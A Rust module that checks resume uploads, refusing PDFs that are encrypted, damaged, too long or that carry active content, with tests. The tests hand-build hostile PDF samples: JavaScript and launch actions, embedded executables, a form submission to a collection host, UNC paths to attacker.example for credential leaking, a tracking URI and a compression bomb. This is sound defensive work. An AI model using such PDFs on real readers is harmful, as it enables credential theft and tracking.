//! The resume check: what the Join Us form's `file` may be. An image goes through the one
//! image check (`image::check`: decoded, re-encoded, metadata gone); a PDF is judged here and,
//! if accepted, stored as sent (a PDF cannot be re-encoded without a renderer, and its bytes
//! are only ever handed to staff as a download or a mail attachment, never shown in the
//! site's origin).
//!
//! A PDF is refused when it is encrypted (the office could not read it, nor could we check
//! it), damaged or cut short, longer than [`MAX_PDF_PAGES`] pages, or when it carries anything
//! active: JavaScript, launch actions, embedded files or file attachments, forms (AcroForm,
//! XFA), or an action run on opening or on some event (`/OpenAction`, `/AA`) that is not a
//! plain move to a page: a form sent somewhere, a file opened from another machine (a UNC path
//! hands a Windows reader's credentials to that machine), data imported, a web address
//! opened. These are how PDFs attack a reader; a resume needs none of them.
//!
//! The work is bounded before the document is parsed: the upload limit bounds the bytes, the
//! page count is read from the page tree's root (`/Count`, without walking the tree), every
//! compressed stream is inflated into a counter against [`MAX_INFLATED_BYTES`] (so a
//! compression bomb in an object stream is refused before the parser would inflate it), and
//! the document may hold at most [`MAX_PDF_OBJECTS`] objects.

use std::io::Read;

use lopdf::{Document, Object};

use super::image::{self, Accepted, ImageType, RejectedFile};

/// Most pages a resume PDF may have.
pub const MAX_PDF_PAGES: u32 = 50;
/// Most objects a resume PDF may hold (a long resume with fonts and images has a few
/// thousand).
pub const MAX_PDF_OBJECTS: usize = 100_000;
/// Most bytes all of a PDF's compressed streams may inflate to, together.
pub const MAX_INFLATED_BYTES: u64 = 200 * 1024 * 1024;

/// What an accepted resume is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ResumeType {
    Image(ImageType),
    Pdf,
}

impl ResumeType {
    pub fn mime(self) -> &'static str {
        match self {
            ResumeType::Image(image_type) => image_type.mime(),
            ResumeType::Pdf => "application/pdf",
        }
    }

    pub fn extension(self) -> &'static str {
        match self {
            ResumeType::Image(image_type) => image_type.extension(),
            ResumeType::Pdf => "pdf",
        }
    }
}

/// Why a PDF was refused; the `Display` text is the `file` field's message.
#[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
pub enum PdfRefusal {
    #[error("This PDF is password-protected or encrypted. Please upload it without a password.")]
    Encrypted,
    #[error("This PDF is incomplete or damaged. Please save it again and upload the new file.")]
    Damaged,
    #[error("This PDF has more than {MAX_PDF_PAGES} pages. Please upload a shorter resume.")]
    TooManyPages,
    #[error("This PDF is too complex to check (too many parts or too much compressed data). Please save it again as a simple PDF.")]
    TooComplex,
    #[error("This PDF contains JavaScript, which is not accepted. Please save it again as a plain PDF, for example with \"Print to PDF\".")]
    JavaScript,
    #[error("This PDF contains an action that opens other programs or files, which is not accepted. Please save it again as a plain PDF, for example with \"Print to PDF\".")]
    Launch,
    #[error("This PDF has other files embedded or attached in it, which is not accepted. Please upload a PDF without attachments.")]
    EmbeddedFiles,
    #[error("This PDF contains a fillable form, which is not accepted. Please save it again as a plain PDF, for example with \"Print to PDF\".")]
    Form,
    #[error("This PDF does something by itself when it is opened (such as sending data, opening a web address or another file), which is not accepted. Please save it again as a plain PDF, for example with \"Print to PDF\".")]
    AutomaticAction,
}

/// Why a resume was refused: as an image (the image check's words) or as a PDF.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ResumeRefusal {
    Image(RejectedFile),
    Pdf(PdfRefusal),
}

impl std::fmt::Display for ResumeRefusal {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            // The image check names the image types only; a resume may be a PDF too.
            ResumeRefusal::Image(RejectedFile::NotAnImage) => f.write_str(
                "This file is not a resume we accept: it must be a PDF, or a JPEG, PNG, SVG or WebP image, and it is none of those.",
            ),
            ResumeRefusal::Image(why) => why.fmt(f),
            ResumeRefusal::Pdf(why) => why.fmt(f),
        }
    }
}

/// What to store for an accepted resume.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AcceptedResume {
    pub resume_type: ResumeType,
    pub bytes: Vec<u8>,
}

/// Whether a file's first bytes open a PDF (the signature at byte 0: a PDF behind other bytes
/// is some other file carrying one).
pub fn looks_like_pdf(head: &[u8]) -> bool {
    head.starts_with(b"%PDF-")
}

/// Checks a whole resume held in memory: a PDF here, anything else by the image check. Call
/// it off the async threads.
pub fn check(bytes: &[u8]) -> Result<AcceptedResume, ResumeRefusal> {
    if looks_like_pdf(bytes) {
        check_pdf(bytes).map_err(ResumeRefusal::Pdf)?;
        return Ok(AcceptedResume {
            resume_type: ResumeType::Pdf,
            bytes: bytes.to_vec(),
        });
    }
    let Accepted { image_type, bytes } = image::check(bytes).map_err(ResumeRefusal::Image)?;
    Ok(AcceptedResume {
        resume_type: ResumeType::Image(image_type),
        bytes,
    })
}

/// Judges a PDF; `Ok` means it may be stored as sent. Bounded in time and memory (see the
/// module's doc): call it off the async threads.
pub fn check_pdf(bytes: &[u8]) -> Result<(), PdfRefusal> {
    if !looks_like_pdf(bytes) {
        return Err(PdfRefusal::Damaged);
    }
    // A whole PDF ends with `%%EOF` (and perhaps a line end): a cut-short upload does not.
    let tail = &bytes[bytes.len().saturating_sub(1024)..];
    if !tail.windows(5).any(|w| w == b"%%EOF") {
        return Err(PdfRefusal::Damaged);
    }
    let encrypted_mark = bytes.windows(8).any(|w| w == b"/Encrypt");
    // Cross-reference, trailer, catalogue and the page tree's root only.
    let metadata = match Document::load_metadata_mem(bytes) {
        Ok(metadata) => metadata,
        Err(_) if encrypted_mark => return Err(PdfRefusal::Encrypted),
        Err(_) => return Err(PdfRefusal::Damaged),
    };
    if encrypted_mark {
        return Err(PdfRefusal::Encrypted);
    }
    if metadata.page_count > MAX_PDF_PAGES {
        return Err(PdfRefusal::TooManyPages);
    }
    if metadata.page_count == 0 {
        return Err(PdfRefusal::Damaged);
    }
    check_inflated_size(bytes)?;
    let document = Document::load_mem(bytes).map_err(|_| PdfRefusal::Damaged)?;
    if document.is_encrypted() || document.was_encrypted() {
        return Err(PdfRefusal::Encrypted);
    }
    if document.objects.len() > MAX_PDF_OBJECTS {
        return Err(PdfRefusal::TooComplex);
    }
    // The page tree as the parser sees it must agree with its root's count: a tree that
    // claims fewer pages than it has (to pass the count) is refused.
    let pages = document.get_pages().len();
    if pages == 0 {
        return Err(PdfRefusal::Damaged);
    }
    if pages > MAX_PDF_PAGES as usize {
        return Err(PdfRefusal::TooManyPages);
    }
    let mut found = Found::new(&document);
    found.object(&Object::Dictionary(document.trailer.clone()), 0);
    for object in document.objects.values() {
        found.object(object, 0);
    }
    found.verdict()
}

/// Inflates every Flate stream (bytes between `stream` and `endstream` that open like zlib)
/// into a counter, refusing once all of them together pass [`MAX_INFLATED_BYTES`]. Nothing is
/// kept: memory stays flat whatever the streams claim.
fn check_inflated_size(bytes: &[u8]) -> Result<(), PdfRefusal> {
    check_inflated_size_within(bytes, MAX_INFLATED_BYTES)
}

fn check_inflated_size_within(bytes: &[u8], cap: u64) -> Result<(), PdfRefusal> {
    let mut total: u64 = 0;
    let mut at = 0;
    let mut sink = vec![0u8; 64 * 1024];
    while let Some(found) = find(&bytes[at..], b"stream") {
        let mut start = at + found + b"stream".len();
        at = start;
        // `endstream` contains `stream`: skip it.
        if bytes[..start].ends_with(b"endstream") {
            continue;
        }
        if bytes.get(start) == Some(&b'\r') {
            start += 1;
        }
        if bytes.get(start) == Some(&b'\n') {
            start += 1;
        }
        let data = &bytes[start..];
        // A zlib header: deflate with a window, and a checksum that holds.
        let is_zlib = data.len() >= 2
            && data[0] & 0x0f == 8
            && (u16::from(data[0]) << 8 | u16::from(data[1])) % 31 == 0;
        if !is_zlib {
            continue;
        }
        let mut decoder = flate2::read::ZlibDecoder::new(data);
        loop {
            match decoder.read(&mut sink) {
                Ok(0) | Err(_) => break,
                Ok(n) => {
                    total += n as u64;
                    if total > cap {
                        return Err(PdfRefusal::TooComplex);
                    }
                }
            }
        }
        at = start + usize::try_from(decoder.total_in()).unwrap_or(0);
    }
    Ok(())
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

/// What the scan of every object found (names as the parser decoded them, so `/J#53` is
/// `/JS`).
struct Found<'a> {
    /// Where references in an `/OpenAction` are looked up.
    document: &'a Document,
    javascript: bool,
    launch: bool,
    embedded: bool,
    form: bool,
    automatic: bool,
}

/// Deeper than this, an object is not walked further (the parser itself stops nesting at
/// 100).
const MAX_DEPTH: usize = 128;

impl<'a> Found<'a> {
    fn new(document: &'a Document) -> Found<'a> {
        Found {
            document,
            javascript: false,
            launch: false,
            embedded: false,
            form: false,
            automatic: false,
        }
    }

    /// A dictionary's key, with its value: an `/OpenAction` must be a plain view destination,
    /// and any `/AA` (actions on events: opening a page, focusing a field...) is refused, as
    /// no resume needs one.
    fn key(&mut self, key: &[u8], value: &Object) {
        self.name(key);
        match key {
            b"AA" => self.automatic = true,
            b"OpenAction" if !is_view_destination(self.document, value) => self.automatic = true,
            _ => {}
        }
    }

    fn name(&mut self, name: &[u8]) {
        match name {
            b"JS" | b"JavaScript" => self.javascript = true,
            b"Launch" => self.launch = true,
            b"EmbeddedFiles" | b"EmbeddedFile" | b"FileAttachment" => self.embedded = true,
            b"AcroForm" | b"XFA" => self.form = true,
            _ => {}
        }
    }

    fn object(&mut self, object: &Object, depth: usize) {
        if depth > MAX_DEPTH {
            return;
        }
        match object {
            Object::Name(name) => self.name(name),
            Object::Array(items) => {
                for item in items {
                    self.object(item, depth + 1);
                }
            }
            Object::Dictionary(dict) => {
                for (key, value) in dict.iter() {
                    self.key(key, value);
                    self.object(value, depth + 1);
                }
            }
            Object::Stream(stream) => {
                for (key, value) in stream.dict.iter() {
                    self.key(key, value);
                    self.object(value, depth + 1);
                }
            }
            _ => {}
        }
    }

    fn verdict(&self) -> Result<(), PdfRefusal> {
        if self.javascript {
            Err(PdfRefusal::JavaScript)
        } else if self.launch {
            Err(PdfRefusal::Launch)
        } else if self.embedded {
            Err(PdfRefusal::EmbeddedFiles)
        } else if self.form {
            Err(PdfRefusal::Form)
        } else if self.automatic {
            Err(PdfRefusal::AutomaticAction)
        } else {
            Ok(())
        }
    }
}

/// The fits a view destination may ask for (`[page /XYZ left top zoom]`, `[page /Fit]`...).
const FITS: &[&[u8]] = &[
    b"XYZ", b"Fit", b"FitH", b"FitV", b"FitR", b"FitB", b"FitBH", b"FitBV",
];

/// Whether an `/OpenAction` only shows a page: a destination array (a page and a fit), or a
/// `GoTo` action to one with no further action chained (`/Next`). Anything else (a form
/// sent, a file or address opened, data imported, a script) is an action on opening.
fn is_view_destination(document: &Document, value: &Object) -> bool {
    match resolved(document, value) {
        Some(Object::Array(items)) => is_destination_array(document, items),
        Some(Object::Dictionary(action)) => {
            let go_to = action
                .get(b"S")
                .ok()
                .and_then(|s| resolved(document, s))
                .is_some_and(|s| matches!(s, Object::Name(name) if name == b"GoTo"));
            let destination = action
                .get(b"D")
                .ok()
                .and_then(|d| resolved(document, d))
                .is_some_and(|d| match d {
                    Object::Array(items) => is_destination_array(document, items),
                    // A named destination, looked up in the document's own names.
                    Object::Name(_) | Object::String(..) => true,
                    _ => false,
                });
            go_to && destination && !action.has(b"Next")
        }
        _ => false,
    }
}

/// `[page /Fit...]`: a page (a reference or, in a remote destination, a number) and a fit.
fn is_destination_array(document: &Document, items: &[Object]) -> bool {
    let page = matches!(
        items.first(),
        Some(Object::Reference(_) | Object::Integer(_))
    );
    let fit = items
        .get(1)
        .and_then(|fit| resolved(document, fit))
        .is_some_and(|fit| matches!(fit, Object::Name(name) if FITS.contains(&name.as_slice())));
    page && fit
}

/// `object`, or what its reference points to (a few references deep at most).
fn resolved<'a>(document: &'a Document, object: &'a Object) -> Option<&'a Object> {
    let mut object = object;
    for _ in 0..8 {
        match object {
            Object::Reference(id) => object = document.get_object(*id).ok()?,
            _ => return Some(object),
        }
    }
    None
}

#[cfg(test)]
pub(crate) mod samples {
    //! Hand-written PDFs: each object's offset is counted as it is written, so the
    //! cross-reference table is right and only the part under test is wrong.

    /// A PDF of `objects` (numbered from 1, catalogue first), with `trailer_extra` added to the
    /// trailer dictionary.
    pub fn pdf(objects: &[String], trailer_extra: &str) -> Vec<u8> {
        let mut out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
        let mut offsets = Vec::new();
        for (i, body) in objects.iter().enumerate() {
            offsets.push(out.len());
            out.extend_from_slice(format!("{} 0 obj\n{body}\nendobj\n", i + 1).as_bytes());
        }
        let xref = out.len();
        out.extend_from_slice(
            format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
        );
        for offset in offsets {
            out.extend_from_slice(format!("{offset:010} 00000 n \n").as_bytes());
        }
        out.extend_from_slice(
            format!(
                "trailer\n<< /Size {} /Root 1 0 R {trailer_extra} >>\nstartxref\n{xref}\n%%EOF\n",
                objects.len() + 1
            )
            .as_bytes(),
        );
        out
    }

    /// A one-page PDF whose catalogue has `catalog_extra` and whose page has `page_extra`,
    /// with `more` objects after the four of the document (numbered from 5).
    pub fn one_page(catalog_extra: &str, page_extra: &str, more: &[&str]) -> Vec<u8> {
        let content = "BT /F1 18 Tf 72 720 Td (Ravi Kumar, resume) Tj ET";
        let mut objects = vec![
            format!("<< /Type /Catalog /Pages 2 0 R {catalog_extra} >>"),
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
            format!(
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R \
                 /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> {page_extra} >>"
            ),
            format!(
                "<< /Length {} >>\nstream\n{content}\nendstream",
                content.len() + 1
            ),
        ];
        objects.extend(more.iter().map(|s| (*s).to_owned()));
        pdf(&objects, "")
    }

    /// A PDF whose page tree's root claims `count` pages, with that many page objects.
    pub fn claiming_pages(count: usize) -> Vec<u8> {
        let kids: Vec<String> = (0..count).map(|i| format!("{} 0 R", i + 3)).collect();
        let mut objects = vec![
            "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
            format!(
                "<< /Type /Pages /Kids [{}] /Count {count} >>",
                kids.join(" ")
            ),
        ];
        objects.extend(
            (0..count)
                .map(|_| "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>".to_owned()),
        );
        pdf(&objects, "")
    }
}

#[cfg(test)]
mod tests {
    use super::samples::*;
    use super::*;

    #[test]
    fn a_plain_one_page_pdf_is_accepted_and_kept_as_sent() {
        let sent = one_page("", "", &[]);
        let accepted = check(&sent).expect("a plain PDF");
        assert_eq!(accepted.resume_type, ResumeType::Pdf);
        assert_eq!(accepted.bytes, sent);
        assert_eq!(accepted.resume_type.mime(), "application/pdf");
        assert_eq!(accepted.resume_type.extension(), "pdf");
    }

    #[test]
    fn active_or_hidden_content_is_refused_each_with_its_reason() {
        let cases: Vec<(&str, Vec<u8>, PdfRefusal)> = vec![
            (
                "JavaScript open action",
                one_page(
                    "/OpenAction 5 0 R",
                    "",
                    &["<< /S /JavaScript /JS (app.alert(1)) >>"],
                ),
                PdfRefusal::JavaScript,
            ),
            (
                "JavaScript name tree",
                one_page(
                    "/Names << /JavaScript 5 0 R >>",
                    "",
                    &["<< /Names [(a) 6 0 R] >>", "<< /S /JavaScript /JS (x) >>"],
                ),
                PdfRefusal::JavaScript,
            ),
            (
                "JS written with a hex escape",
                one_page("/OpenAction << /S /Java#53cript /J#53 (x) >>", "", &[]),
                PdfRefusal::JavaScript,
            ),
            (
                "launch action",
                one_page("/OpenAction << /S /Launch /F (calc.exe) >>", "", &[]),
                PdfRefusal::Launch,
            ),
            (
                "embedded files",
                one_page(
                    "/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
                    "",
                    &["<< /Type /Filespec /F (a.exe) >>"],
                ),
                PdfRefusal::EmbeddedFiles,
            ),
            (
                "file attachment annotation",
                one_page(
                    "",
                    "/Annots [5 0 R]",
                    &["<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] >>"],
                ),
                PdfRefusal::EmbeddedFiles,
            ),
            (
                "AcroForm",
                one_page("/AcroForm << /Fields [] >>", "", &[]),
                PdfRefusal::Form,
            ),
            (
                "XFA",
                one_page(
                    "/AcroForm << /Fields [] /XFA 5 0 R >>",
                    "",
                    &["<< /Length 0 >>\nstream\n\nendstream"],
                ),
                PdfRefusal::Form,
            ),
        ];
        for (case, sent, expected) in cases {
            assert_eq!(check_pdf(&sent), Err(expected), "{case}");
            assert_eq!(
                check(&sent),
                Err(ResumeRefusal::Pdf(expected)),
                "{case} through the resume check"
            );
        }
    }

    /// What a PDF may do by itself: a form sent, a file fetched from another machine (a UNC
    /// path hands a Windows reader's credentials to it), data imported, a script address,
    /// actions on events. Each is refused with its own message.
    #[test]
    fn actions_on_opening_or_on_events_are_refused() {
        let cases: Vec<(&str, Vec<u8>)> = vec![
            (
                "SubmitForm",
                one_page(
                    "/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://collect.example/cv) >> >>",
                    "",
                    &[],
                ),
            ),
            (
                "GoToR to a UNC path",
                one_page(
                    r"/OpenAction << /S /GoToR /F (\\\\attacker.example\\share\\cv.pdf) /D [0 /Fit] >>",
                    "",
                    &[],
                ),
            ),
            (
                "ImportData",
                one_page(
                    r"/OpenAction << /S /ImportData /F (\\\\attacker.example\\share\\x.fdf) >>",
                    "",
                    &[],
                ),
            ),
            (
                "javascript: URI",
                one_page("/OpenAction << /S /URI /URI (javascript:app.alert(1)) >>", "", &[]),
            ),
            (
                "web address on opening",
                one_page("/OpenAction << /S /URI /URI (https://track.example/) >>", "", &[]),
            ),
            (
                "SubmitForm behind a reference",
                one_page(
                    "/OpenAction 5 0 R",
                    "",
                    &["<< /S /SubmitForm /F (https://collect.example/) >>"],
                ),
            ),
            (
                "a GoTo that chains another action",
                one_page(
                    "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://track.example/) >> >>",
                    "",
                    &[],
                ),
            ),
            (
                "a destination that is no page and fit",
                one_page("/OpenAction [(https://track.example/)]", "", &[]),
            ),
            (
                "catalogue actions (/AA)",
                one_page(
                    "/AA << /WC << /S /URI /URI (https://track.example/) >> >>",
                    "",
                    &[],
                ),
            ),
            (
                "page open action (/AA)",
                one_page(
                    "",
                    "/AA << /O << /S /GoToR /F (\\\\\\\\host\\\\c) /D [0 /Fit] >> >>",
                    &[],
                ),
            ),
        ];
        for (case, sent) in cases {
            assert_eq!(check_pdf(&sent), Err(PdfRefusal::AutomaticAction), "{case}");
            assert_eq!(
                check(&sent).map(|_| ()).map_err(|why| why.to_string()),
                Err("This PDF does something by itself when it is opened (such as sending data, opening a web address or another file), which is not accepted. Please save it again as a plain PDF, for example with \"Print to PDF\".".to_owned()),
                "{case}: the file field's message"
            );
        }
    }

    #[test]
    fn an_open_action_that_only_shows_a_page_is_accepted() {
        for catalog in [
            "/OpenAction [3 0 R /Fit]",
            "/OpenAction [3 0 R /XYZ null null 0]",
            "/OpenAction << /S /GoTo /D [3 0 R /FitH 792] >>",
            "/OpenAction << /Type /Action /S /GoTo /D (first-page) >>",
            "/OpenAction 5 0 R",
        ] {
            let sent = one_page(catalog, "", &["[3 0 R /FitB]"]);
            assert_eq!(check_pdf(&sent), Ok(()), "{catalog}");
        }
    }

    #[test]
    fn an_encrypted_pdf_is_refused_as_encrypted() {
        let mut objects = vec![
            "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>".to_owned(),
        ];
        objects.push(
            "<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff> /U <00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff> >>"
                .to_owned(),
        );
        let sent = pdf(&objects, "/Encrypt 4 0 R /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>]");
        assert_eq!(check_pdf(&sent), Err(PdfRefusal::Encrypted));
    }

    #[test]
    fn a_truncated_or_broken_pdf_is_refused_as_damaged() {
        let whole = one_page("", "", &[]);
        for cut in [whole.len() / 2, whole.len() - 10, 20] {
            assert_eq!(
                check_pdf(&whole[..cut]),
                Err(PdfRefusal::Damaged),
                "cut at {cut}"
            );
        }
        assert_eq!(
            check_pdf(b"%PDF-1.7\nnothing here\n%%EOF\n"),
            Err(PdfRefusal::Damaged)
        );
    }

    #[test]
    fn a_page_tree_claiming_ten_thousand_pages_is_refused_by_its_claim_before_the_whole_parse() {
        assert_eq!(
            check_pdf(&claiming_pages(10_000)),
            Err(PdfRefusal::TooManyPages)
        );
        // The root's claim is read before the whole file is parsed, so a bomb costs no more
        // than its root: a root claiming 99 pages over 10 real ones is refused, which the
        // parsed tree (10 pages) alone would have accepted. (How long a refusal takes is
        // measured in bench/, not here.)
        let mut claim = claiming_pages(10);
        let at = find(&claim, b"/Count 10").expect("the root's count");
        claim[at..at + 9].copy_from_slice(b"/Count 99");
        assert_eq!(check_pdf(&claim), Err(PdfRefusal::TooManyPages));
        assert_eq!(check_pdf(&claiming_pages(10)), Ok(()));
        // A root that lies about its count is caught by the parsed tree.
        let mut liar = claiming_pages(60);
        let at = find(&liar, b"/Count 60").expect("the root's count");
        liar[at..at + 9].copy_from_slice(b"/Count  1");
        assert_eq!(check_pdf(&liar), Err(PdfRefusal::TooManyPages));
        assert_eq!(check_pdf(&claiming_pages(50)), Ok(()));
    }

    #[test]
    fn a_compression_bomb_is_refused_before_it_is_parsed() {
        use std::io::Write;
        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
        let zeros = vec![0u8; 1024 * 1024];
        // 17 MB of zeros against a 16 MB cap (the real cap is larger; the walk is the same).
        for _ in 0..17 {
            encoder.write_all(&zeros).expect("deflate");
        }
        let packed = encoder.finish().expect("deflate");
        let mut stream = format!(
            "<< /Length {} /Filter /FlateDecode >>\nstream\n",
            packed.len()
        )
        .into_bytes();
        stream.extend_from_slice(&packed);
        stream.extend_from_slice(b"\nendstream");
        let mut body = b"%PDF-1.7\n1 0 obj\n".to_vec();
        body.extend_from_slice(&stream);
        body.extend_from_slice(b"\nendobj\n%%EOF\n");
        let cap = 16 * 1024 * 1024;
        assert_eq!(
            check_inflated_size_within(&body, cap),
            Err(PdfRefusal::TooComplex)
        );
        assert_eq!(check_inflated_size_within(&body, 18 * 1024 * 1024), Ok(()));
    }

    #[test]
    fn a_file_that_only_contains_a_pdf_later_is_not_taken_for_one() {
        let mut sent = b"GIF89a".to_vec();
        sent.extend(one_page("", "", &[]));
        assert!(matches!(check(&sent), Err(ResumeRefusal::Image(_))));
    }
}
